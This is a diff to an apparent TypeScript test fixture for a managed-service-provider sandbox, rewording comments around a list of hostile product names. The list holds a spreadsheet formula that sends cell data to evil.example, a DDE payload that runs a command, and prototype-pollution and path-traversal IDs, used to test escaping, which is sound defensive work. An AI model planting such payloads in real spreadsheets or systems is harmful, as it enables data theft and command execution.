@@ -13,7 +13,7 @@ import { nameInRun } from '../sandbox/psa.ts';
 import type { Server } from '../sandbox/vendor.ts';
 import { type World, world } from './world.ts';
 
-/** Names that do more than name, where somebody lets them. */
+/** Names that do harm wherever they are not escaped. */
 const NAMES = [
   '=HYPERLINK("https://evil.example/?"&A1;"Click")',
   '+1+cmd|" /C calc"!A0',
@@ -39,7 +39,7 @@ const NAMES = [
   '🧾 Zoë & Söhne ﷽',
 ];
 
-/** What no spreadsheet, mail program or PSA shows, and the mark that a decoder leaves of some of it. */
+/** Characters that no spreadsheet, mail program or PSA shows, and the one by which a decoder replaces some of them. */
 const UNSHOWN = /[^\P{Cc}\t\r\n]|[\p{Cs}\ufffd\ufffe]/u;
 
 const IDS = ['__proto__', 'constructor', 'a/../../b', 'hasOwnProperty'];
@@ -54,7 +54,7 @@ const msp: DemoMsp = {
   })),
 };
 
-/** Pax8 sells products that are called so, too. */
+/** Pax8 also sells products with such names. */
 const withHostileProducts = <S extends Server>(server: S): S => {
   if (server.id !== 'pax8') return server;
   return {
@@ -66,7 +66,7 @@ const withHostileProducts = <S extends Server>(server: S): S => {
         JSON.parse(JSON.stringify(response.body)),
       );
       for (const row of body.content) {
-        // The one that is priced by usage is known by its name.
+        // The product that is priced by usage is recognised by its name.
         if (row.productName !== 'Microsoft Azure Plan') row.productName = NAMES[msp.draw(NAMES.length, row.id)] ?? '';
       }
       return { ...response, body };
